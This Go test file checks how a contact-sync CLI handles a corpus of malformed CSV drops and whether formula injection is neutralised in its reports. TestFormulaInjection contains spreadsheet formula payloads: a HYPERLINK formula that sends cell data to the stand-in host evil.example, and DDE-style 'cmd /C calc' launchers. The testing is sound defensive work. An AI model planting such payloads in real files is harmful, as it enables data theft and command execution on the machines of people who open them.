package cli

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// badConfig has a guard that lets every delete through: what keeps the
// stored contacts alive below is the reader and the mapping, not the guard.
const badConfig = `state: state.db
listen: ""
jobs:
  - name: crm
    source:
      csv: {dir: drop, key: id}
    mapping:
      display_name: "{{.name}}"
      phones: [{value: "{{.phone}}", type: work}]
      phone_region: FR
      email: "{{.email}}"
      title: "{{.title}}"
      company_name: "{{.company}}"
    sink:
      csv: {dir: outbox}
    safety:
      max_deletes: 100000
      max_delete_percent: 100
      min_source_records: 1
`

// Outcomes of a bad drop.
const (
	wantFail    = "fail"    // the run fails; the error names the file and a line
	wantBlocked = "blocked" // the guard blocks an empty source
	wantOK      = "ok"      // the run goes on; bad records are rejected with a reason
)

type badCase struct {
	file     string
	gen      func() []byte // generated content for files too big to keep in git
	want     string
	mention  []string // in the error (fail) or in the rejection reasons (ok)
	created  int
	updated  int
	rejected int
}

var badCases = []badCase{
	{file: "empty.csv", want: wantFail, mention: []string{"empty.csv line 1", "empty"}},
	{file: "only-newlines.csv", want: wantFail, mention: []string{"only-newlines.csv line 1"}},
	{file: "header-only.csv", want: wantBlocked},
	{file: "blank-rows-only.csv", want: wantBlocked},
	{file: "truncated-mid-quote.csv", want: wantFail, mention: []string{"truncated-mid-quote.csv line 7"}},
	{file: "unterminated-quote-early.csv", want: wantFail, mention: []string{"unterminated-quote-early.csv line 3"}},
	{file: "binary.csv", want: wantFail, mention: []string{"binary.csv line"}},
	{file: "binary-after-header.csv", want: wantFail, mention: []string{"binary-after-header.csv line"}},
	{file: "utf16le-no-bom.csv", want: wantFail, mention: []string{"utf16le-no-bom.csv line 1", "UTF-16"}},
	{file: "utf16be-no-bom.csv", want: wantFail, mention: []string{"utf16be-no-bom.csv line 1", "UTF-16"}},
	{file: "mixed-delimiters.csv", want: wantFail, mention: []string{"mixed-delimiters.csv line 4", "fields where the header has 6"}},
	{file: "semicolon-header-comma-rows.csv", want: wantFail, mention: []string{"semicolon-header-comma-rows.csv line"}},
	{file: "ragged-short-row.csv", want: wantFail, mention: []string{"ragged-short-row.csv line 4", "3 fields where the header has 6"}},
	{file: "ragged-long-row.csv", want: wantFail, mention: []string{"ragged-long-row.csv line 4", "8 fields where the header has 6"}},
	{file: "quote-inside-unquoted-field.csv", want: wantFail, mention: []string{"quote-inside-unquoted-field.csv line 3"}},
	{file: "text-after-closing-quote.csv", want: wantFail, mention: []string{"text-after-closing-quote.csv line 3"}},
	{file: "duplicate-keys.csv", want: wantOK, rejected: 1, mention: []string{"duplicate key", "lines 4 and 7"}},
	{file: "duplicate-keys-after-trim.csv", want: wantOK, rejected: 1, mention: []string{"duplicate key"}},
	{file: "many-duplicates-of-one-key.csv", want: wantOK, rejected: 1, mention: []string{"duplicate key"}},
	{file: "missing-key-column.csv", want: wantFail, mention: []string{"missing-key-column.csv line 1", `no key column "id"`}},
	{file: "empty-key.csv", want: wantOK, rejected: 2, mention: []string{"empty key"}},
	{file: "duplicate-column.csv", want: wantFail, mention: []string{"duplicate-column.csv line 1", "duplicate column"}},
	{file: "invalid-phones.csv", want: wantOK, created: 3, rejected: 13, mention: []string{"phone_1: invalid phone number"}}, // ++33, a ☎ sign and a trailing x still parse
	{file: "existing-record-phone-broken.csv", want: wantOK, rejected: 1, mention: []string{`invalid phone number "12ab"`}},
	{file: "existing-record-name-emptied.csv", want: wantOK, rejected: 1, mention: []string{"display_name"}},
	{file: "control-characters.csv", want: wantOK, rejected: 7, mention: []string{"control"}},
	{file: "control-characters-c1-bidi.csv", want: wantOK, rejected: 2, mention: []string{"U+0085", "U+202E"}},
	{file: "nul-bytes.csv", want: wantOK, rejected: 1, mention: []string{"control"}},
	{file: "bom-in-middle.csv", want: wantOK, rejected: 1, mention: []string{"U+FEFF"}},
	{file: "bom-twice-at-start.csv", want: wantFail, mention: []string{"bom-twice-at-start.csv line 1"}},
	{file: "lone-cr-line-ends.csv", want: wantFail, mention: []string{"lone-cr-line-ends.csv line 1", "end with CR alone"}},
	{file: "formula-payloads.csv", want: wantOK, created: 3},
	{file: "very-long-display-name.csv", want: wantOK, created: 1}, // no length is published: kept whole
	{file: "very-long-email.csv", want: wantOK, created: 1},
	{file: "invalid-emails.csv", want: wantOK, rejected: 5, mention: []string{"email"}},
	{file: "ten-thousand-columns.csv", want: wantOK},
	{file: "windows-1252.csv", want: wantOK, created: 1},
	{file: "utf8-and-latin1-mixed.csv", want: wantFail, mention: []string{"utf8-and-latin1-mixed.csv line 8"}},
	{file: "newline-inside-quoted-name.csv", want: wantOK, created: 1},
	{file: "tab-delimited.csv", want: wantOK},
	{file: "header-padded-uppercase.csv", want: wantOK},
	{file: "zero-width-and-emoji.csv", want: wantOK, created: 1},
	{file: "one-megabyte-field.csv", gen: oneMegabyteField, want: wantOK, updated: 1}, // read whole, nothing lost
	{file: "endless-quoted-field.csv", gen: endlessQuote, want: wantFail, mention: []string{"endless-quoted-field.csv line 4"}},
}

func goodDrop(t *testing.T) []byte {
	data, err := os.ReadFile(filepath.Join("testdata", "bad", "good.csv"))
	if err != nil {
		t.Fatal(err)
	}
	return data
}

// oneMegabyteField holds the five good records, record 3 with a 1 MB title.
func oneMegabyteField() []byte {
	good, _ := os.ReadFile(filepath.Join("testdata", "bad", "good.csv"))
	return bytes.Replace(good, []byte("s3@example.com,Buyer"), []byte("s3@example.com,"+strings.Repeat("x", 1<<20)), 1)
}

// endlessQuote opens a quote on line 4 that 3 MB later is still open.
func endlessQuote() []byte {
	good, _ := os.ReadFile(filepath.Join("testdata", "bad", "good.csv"))
	lines := bytes.SplitAfter(good, []byte("\n"))
	var b bytes.Buffer
	b.Write(bytes.Join(lines[:3], nil))
	b.WriteString(`3,"Supplier 3`)
	for b.Len() < 3<<20 {
		b.WriteString(",more text\n")
	}
	return b.Bytes()
}

// syncJSON runs sync --json and returns its exit status and the job's report.
func (e *env) syncJSON(args ...string) (int, jobReport, string) {
	e.t.Helper()
	code, out, errs := e.run(append([]string{"sync", "--json"}, args...)...)
	var reps []jobReport
	if err := json.Unmarshal([]byte(out), &reps); err != nil || len(reps) != 1 {
		e.t.Fatalf("sync --json: exit %d, %v\nstdout:\n%s\nstderr:\n%s", code, err, out, errs)
	}
	return code, reps[0], errs
}

// reconcileAll binds every contact of a run's import files to a made-up
// UUID, as if Control Hub had imported them and the admin had run
// reconcile with its export.
func (e *env) reconcileAll(job, runID string) {
	e.t.Helper()
	var out bytes.Buffer
	w := csv.NewWriter(&out)
	n := 0
	for _, name := range e.outputs(runID) {
		if !strings.Contains(name, "-import-") {
			continue
		}
		f, err := os.Open(filepath.Join(e.outbox, name))
		if err != nil {
			e.t.Fatal(err)
		}
		rows, err := csv.NewReader(f).ReadAll()
		f.Close()
		if err != nil {
			e.t.Fatal(err)
		}
		for i, row := range rows {
			switch {
			case i == 0 && n == 0:
				_ = w.Write(row)
			case i > 0:
				n++
				row[1] = fmt.Sprintf("00000000-0000-4000-8000-%012d", n)
				_ = w.Write(row)
			}
		}
	}
	w.Flush()
	p := filepath.Join(e.dir, "export-"+runID+".csv")
	if err := os.WriteFile(p, out.Bytes(), 0o600); err != nil {
		e.t.Fatal(err)
	}
	e.mustRun(ExitOK, "reconcile", "--job", job, p)
}

func TestBadInputCorpus(t *testing.T) {
	ents, err := os.ReadDir(filepath.Join("testdata", "bad"))
	if err != nil {
		t.Fatal(err)
	}
	listed := map[string]bool{"good.csv": true}
	for _, c := range badCases {
		listed[c.file] = true
	}
	for _, d := range ents {
		if !listed[d.Name()] {
			t.Errorf("testdata/bad/%s has no case in badCases", d.Name())
		}
	}
	for _, tc := range badCases {
		t.Run(tc.file, func(t *testing.T) {
			t.Parallel()
			e := newEnv(t, "10")
			if err := os.WriteFile(e.config, []byte(badConfig), 0o600); err != nil {
				t.Fatal(err)
			}
			e.dropAs("a-good.csv", goodDrop(t))
			if code, rep, errs := e.syncJSON(); code != ExitOK || rep.Run.Created != 5 {
				t.Fatalf("good first run: exit %d %+v %s", code, rep.Run, errs)
			}
			// Bound contacts, so that a change would be an update rather
			// than wait for a UUID.
			e.reconcileAll("crm", "000001")
			data := tc.gen
			var content []byte
			if data != nil {
				content = data()
			} else {
				// A variable of the subtest's own: subtests run in parallel.
				var rerr error
				if content, rerr = os.ReadFile(filepath.Join("testdata", "bad", tc.file)); rerr != nil {
					t.Fatal(rerr)
				}
			}
			e.dropAs(tc.file, content)
			code, rep, errs := e.syncJSON()
			r := rep.Run
			t.Logf("exit %d status %s created %d updated %d deleted %d unchanged %d rejected %d waiting %d source %d error %q reason %q",
				code, r.Status, r.Created, r.Updated, r.Deleted, r.Unchanged, r.Rejected, r.Waiting, r.Counts.Source, rep.Error, r.Reason)
			for _, rj := range rep.Rejected {
				t.Logf("  rejected %q at %s: %s", rj.Key, rj.Origin, rj.Reason)
			}
			// A blocked run counts the deletes it refused to emit.
			if tc.want != wantBlocked && (r.Deleted != 0 || r.Updated != tc.updated) {
				t.Errorf("bad drop deleted %d and updated %d contacts, want 0 and %d", r.Deleted, r.Updated, tc.updated)
			}
			if files := e.outputs(fmt.Sprintf("%06d", r.ID)); tc.want != wantOK && len(files) != 0 {
				t.Errorf("a %s run left %v", tc.want, files)
			}
			for _, f := range e.outputs(fmt.Sprintf("%06d", r.ID)) {
				if strings.HasSuffix(f, "-delete.csv") {
					t.Errorf("bad drop wrote a delete report %s", f)
				}
			}
			switch tc.want {
			case wantFail:
				if code != ExitFailed || r.Status != "failed" {
					t.Errorf("exit %d status %s, want a failed run (1)", code, r.Status)
				}
				for _, m := range tc.mention {
					if !strings.Contains(rep.Error, m) || !strings.Contains(r.Reason, m) {
						t.Errorf("error %q (recorded %q) does not mention %q", rep.Error, r.Reason, m)
					}
				}
			case wantBlocked:
				if code != ExitBlocked || r.Status != "blocked" {
					t.Errorf("exit %d status %s, want blocked (3)", code, r.Status)
				}
			case wantOK:
				wantCode := ExitOK
				if tc.rejected > 0 {
					wantCode = ExitRejected
				}
				if code != wantCode || r.Status != "ok" || r.Created != tc.created || r.Rejected != tc.rejected {
					t.Errorf("exit %d status %s created %d rejected %d, want exit %d ok created %d rejected %d",
						code, r.Status, r.Created, r.Rejected, wantCode, tc.created, tc.rejected)
				}
				var reasons strings.Builder
				for _, rj := range rep.Rejected {
					if rj.Reason == "" || rj.Origin == "" {
						t.Errorf("rejection %+v lacks a reason or an origin", rj)
					}
					reasons.WriteString(rj.Reason + "\n")
				}
				for _, m := range tc.mention {
					if !strings.Contains(reasons.String(), m) {
						t.Errorf("no rejection reason mentions %q:\n%s", m, reasons.String())
					}
				}
			}
			if t.Failed() && errs != "" {
				t.Logf("stderr:\n%s", errs)
			}
			// The stored contacts are those of the first run: the same good
			// drop again changes none of them, and removes only what the bad
			// drop created.
			e.dropAs("z-good-again.csv", goodDrop(t))
			code, rep, errs = e.syncJSON()
			r = rep.Run
			if code != ExitOK || r.Unchanged != 5-tc.updated || r.Updated != tc.updated || r.Created != 0 || r.Deleted != tc.created {
				t.Errorf("good drop after the bad one: exit %d created %d updated %d deleted %d unchanged %d, want 0 %d %d %d\n%s",
					code, r.Created, r.Updated, r.Deleted, r.Unchanged, tc.updated, tc.created, 5-tc.updated, errs)
			}
		})
	}
}

// readCSV reads an outbox file of a run by its suffix.
func (e *env) readCSV(runID, suffix string) [][]string {
	e.t.Helper()
	for _, name := range e.outputs(runID) {
		if strings.HasSuffix(name, suffix) {
			f, err := os.Open(filepath.Join(e.outbox, name))
			if err != nil {
				e.t.Fatal(err)
			}
			defer f.Close()
			rows, err := csv.NewReader(f).ReadAll()
			if err != nil {
				e.t.Fatalf("%s: %v", name, err)
			}
			return rows
		}
	}
	e.t.Fatalf("run %s wrote no *%s (files %v)", runID, suffix, e.outputs(runID))
	return nil
}

// TestFormulaInjection follows formula payloads from a drop to the three
// kinds of file: kept verbatim in the import file (Control Hub reads data,
// and a phone number's + must survive), neutralised with a leading quote
// in the delete and rejected reports that a person opens in a spreadsheet.
func TestFormulaInjection(t *testing.T) {
	e := newEnv(t, "10")
	if err := os.WriteFile(e.config, []byte(badConfig), 0o600); err != nil {
		t.Fatal(err)
	}
	payloads, err := os.ReadFile(filepath.Join("testdata", "bad", "formula-payloads.csv"))
	if err != nil {
		t.Fatal(err)
	}
	rejects := "=2+5,Bad,12ab,x@example.com,Buyer,Acme\n@SUM(A1),Bad,12ab,x@example.com,Buyer,Acme\n" +
		"+1,Bad,12ab,x@example.com,Buyer,Acme\n-1,Bad,12ab,x@example.com,Buyer,Acme\n"
	e.dropAs("a.csv", append(payloads, rejects...))
	if code, rep, errs := e.syncJSON(); code != ExitRejected || rep.Run.Created != 8 || rep.Run.Rejected != 4 {
		t.Fatalf("exit %d %+v\n%s", code, rep.Run, errs)
	}
	verbatim := map[string][]string{
		"300": {`=HYPERLINK("http://evil.example/?x="&A1,"Click")`, "=1+2", "+cmd|' /C calc'!A0"},
		"301": {"@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "@Acme"},
		"302": {"-Minus Name"},
	}
	imp := e.readCSV("000001", "-import-001.csv")
	var all strings.Builder
	for _, row := range imp {
		all.WriteString(strings.Join(row, "\x1f") + "\n")
	}
	for key, vals := range verbatim {
		for _, v := range vals {
			if !strings.Contains(all.String(), "\x1f"+v+"\x1f") && !strings.HasPrefix(all.String(), v+"\x1f") && !strings.Contains(all.String(), "\n"+v+"\x1f") {
				t.Errorf("import file lacks record %s's value %q verbatim", key, v)
			}
			if strings.Contains(all.String(), "'"+v) {
				t.Errorf("import file neutralised %q", v)
			}
		}
	}
	rej := e.readCSV("000001", "-rejected.csv")
	wantKeys := map[string]bool{"'=2+5": true, "'@SUM(A1)": true, "'+1": true, "'-1": true}
	for _, row := range rej[1:] {
		if !wantKeys[row[0]] {
			t.Errorf("rejected report key %q is not neutralised", row[0])
		}
		delete(wantKeys, row[0])
	}
	if len(wantKeys) != 0 {
		t.Errorf("rejected report lacks %v", wantKeys)
	}

	// Once bound, the formula contacts leave the source: the delete report
	// names them, neutralised.
	e.reconcileAll("crm", "000001")
	e.dropAs("b.csv", goodDrop(t))
	code, rep, errs := e.syncJSON()
	if code != ExitOK || rep.Run.Deleted != 3 {
		t.Fatalf("exit %d %+v\n%s", code, rep.Run, errs)
	}
	del := e.readCSV(fmt.Sprintf("%06d", rep.Run.ID), "-delete.csv")
	names := map[string]bool{}
	for _, row := range del[1:] {
		names[row[0]] = true
		for _, v := range row {
			if v != "" && strings.ContainsRune("=+-@\t\r", rune(v[0])) {
				t.Errorf("delete report value %q starts a formula", v)
			}
		}
	}
	for _, want := range []string{`'=HYPERLINK("http://evil.example/?x="&A1,"Click")`, "'@SUM(1+1)*cmd|' /C calc'!A0", "'-Minus Name"} {
		if !names[want] {
			t.Errorf("delete report lacks %q; has %v", want, names)
		}
	}
}
